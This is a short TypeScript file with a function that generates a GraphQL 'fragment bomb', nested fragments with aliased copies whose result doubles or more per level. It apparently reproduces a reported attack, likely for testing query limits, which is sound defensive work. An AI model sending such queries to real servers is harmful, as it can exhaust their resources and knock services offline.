// The query of issue 11's attack: nested fragments, each repeating `transactions { block { …next } }`
// under several aliases, so the result doubles (or more) per fragment.

/** `levels` fragments, each with `aliases` copies of `transactions { block { …next } }`. */
export function fragmentBomb(levels: number, aliases = 2): string {
  const fragments: string[] = [];
  for (let i = 0; i < levels; i++) {
    const next = i + 1 < levels ? `...F${i + 1}` : 'hash';
    fragments.push(`fragment F${i} on Block { ${Array.from({ length: aliases }, (_, k) => `a${k}: transactions { block { ${next} } }`).join(' ')} }`);
  }
  return `{ block { ...F0 } } ${fragments.join(' ')}`;
}
